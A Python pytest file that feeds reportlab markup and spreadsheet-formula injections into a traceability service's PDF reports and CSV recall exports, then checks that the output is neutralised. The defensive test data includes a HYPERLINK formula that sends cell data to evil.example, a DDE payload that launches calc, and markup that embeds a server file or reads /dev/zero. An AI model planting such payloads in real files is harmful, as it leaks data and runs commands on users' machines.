"""Hostile text in every field that reaches a document the service writes (issue 18, 1 and 8).

Every PDF producer (audit report, batch label sheet, unit label sheet) gets reportlab markup in
each user-controlled field it prints; every CSV export (the recall export) gets spreadsheet
formulas in each user-controlled column. Over HTTP, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import secrets
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pypdf
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from service.db.engine import SessionFactory
from service.db.models import OrgRole
from service.orgs.service import create_org
from tests.builders import auth, event_body, make_batch, make_org, post_event, random_gtin

# Fits GS1 character set 82 (no spaces, at most 20): a forged line break and a forged number.
HOSTILE_LOT = "<br/><seq/>=1+2"
HOSTILE_LOCATION = "<b>Hall</b>&amp;<br/>"  # within the 28 characters the report shows


@pytest.fixture
def secret_png() -> Iterator[Path]:
    """A server file a name could ask reportlab to embed (a short path: names are bounded)."""
    with tempfile.TemporaryDirectory(prefix="lp") as folder:
        path = Path(folder) / "x.png"
        Image.new("RGB", (8, 8), "red").save(path)
        yield path


def hostile_org(sessions: SessionFactory, name: str, role: OrgRole) -> tuple[str, str]:
    with sessions.write() as session, session.begin():
        created = create_org(session, name=f"{name} {secrets.token_hex(2)}", role=role)
    return created.slug, created.api_key


def product(client: TestClient, key: str, name: str) -> str:
    gtin = random_gtin()
    response = client.post("/api/v1/products", json={"gtin": gtin, "name": name}, headers=auth(key))
    assert response.status_code == 201, response.text
    return gtin


class TestPdfProducers:
    @pytest.fixture
    def hostile(
        self, client: TestClient, sessions: SessionFactory, secret_png: Path
    ) -> dict[str, Any]:
        """A batch whose product name, lot and event location are reportlab markup."""
        name = (
            f'Tea<img src="{secret_png}"/><a href="https://evil.example/">Pay</a>'
            '<font color="white" size="1">hid</font><onDraw name="x"/>&amp;'
        )
        _, key = hostile_org(sessions, '<img src="/dev/zero"/>', OrgRole.supplier)
        batch = make_batch(client, key, gtin=product(client, key, name), lot=HOSTILE_LOT)
        post_event(client, key, batch["id"], event_body() | {"location": HOSTILE_LOCATION})
        response = client.post(
            f"/api/v1/batches/{batch['id']}/serials", json={"count": 2}, headers=auth(key)
        )
        assert response.status_code == 201, response.text
        return {"batch": batch, "key": key, "name": name}

    def fetch(self, client: TestClient, url: str, key: str) -> bytes:
        started = time.monotonic()
        response = client.get(url, headers=auth(key))
        # The old report read /dev/zero for as long as memory lasted; a render is well under 1 s
        # (tests/unit/test_pdf_text.py checks /dev/zero itself, in a memory-capped process).
        assert time.monotonic() - started < 15
        assert response.status_code == 200, response.text
        assert response.content.startswith(b"%PDF")
        return response.content

    def check(self, pdf: bytes, *literals: str) -> None:
        reader = pypdf.PdfReader(io.BytesIO(pdf))
        for page in reader.pages:
            assert not page.images, "an image was embedded"
            assert "/Annots" not in page, "a link annotation was forged"
        flat = "".join("".join(page.extract_text() for page in reader.pages).split())
        for literal in literals:
            assert "".join(literal.split()) in flat

    def test_audit_report(
        self, client: TestClient, sessions: SessionFactory, hostile: dict[str, Any]
    ) -> None:
        _, inspector = make_org(sessions, OrgRole.inspector)
        url = f"/api/v1/batches/{hostile['batch']['id']}/audit/report.pdf"
        pdf = self.fetch(client, url, inspector)
        self.check(pdf, hostile["name"], f"lot {HOSTILE_LOT} (", HOSTILE_LOCATION)

    def test_batch_label_sheet(self, client: TestClient, hostile: dict[str, Any]) -> None:
        url = f"/api/v1/batches/{hostile['batch']['id']}/labels.pdf?copies=2"
        pdf = self.fetch(client, url, hostile["key"])
        # The name line is shortened with an ellipsis to fit the label.
        self.check(pdf, f"(10) {HOSTILE_LOT}", hostile["name"][:20])

    def test_unit_label_sheet(self, client: TestClient, hostile: dict[str, Any]) -> None:
        url = f"/api/v1/batches/{hostile['batch']['id']}/serials/labels.pdf"
        pdf = self.fetch(client, url, hostile["key"])
        self.check(pdf, f"(10) {HOSTILE_LOT}", hostile["name"][:20])


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMERIC = {"recall_id", "quantity"}


def is_neutral(cell: str) -> bool:
    """A spreadsheet reads the cell as text: no formula start, also not after whitespace."""
    return not cell.startswith(FORMULA_STARTS) and not cell.lstrip().startswith(FORMULA_STARTS)


class TestCsvExports:
    def test_recall_export(self, client: TestClient, sessions: SessionFactory) -> None:
        _, supplier = hostile_org(sessions, "-2+3 Foods", OrgRole.supplier)
        carrier_slug, carrier = hostile_org(sessions, "@SUM(1+1)", OrgRole.logistics)
        name = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
        batch = make_batch(client, supplier, gtin=product(client, supplier, name), lot="=1+2")
        post_event(client, supplier, batch["id"], event_body() | {"location": "\u00a0=1+1"})
        shipping = event_body("shipping", hours=5) | {"receiver": carrier_slug}
        post_event(client, supplier, batch["id"], shipping | {"location": "+cmd|' /C calc'!A0"})
        receiving = event_body("receiving", hours=9) | {"location": "-1+1"}
        post_event(client, carrier, batch["id"], receiving)
        body = {
            "batch_ids": [batch["id"]],
            "reason": "=cmd",
            "severity": "I",
            "instructions": "@x",
        }
        recall = client.post("/api/v1/recalls", json=body, headers=auth(supplier))
        assert recall.status_code == 201, recall.text
        url = f"/api/v1/recalls/{recall.json()['id']}/export.csv"
        response = client.get(url, headers=auth(supplier))
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")

        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert len(rows) == 2  # the supplier's period and the carrier's
        for row in rows:
            for column, cell in row.items():
                if column in NUMERIC:
                    float(cell)  # a real number, the only cells allowed to start with a sign
                else:
                    assert is_neutral(cell), (column, cell)
        assert {r["lot"] for r in rows} == {"'=1+2"}
        assert {r["product_name"] for r in rows} == {"'" + name}
        assert {r["custodian_name"][:10] for r in rows} == {"'-2+3 Food", "'@SUM(1+1)"}
        assert "'\u00a0=1+1" in {r["location"] for r in rows}
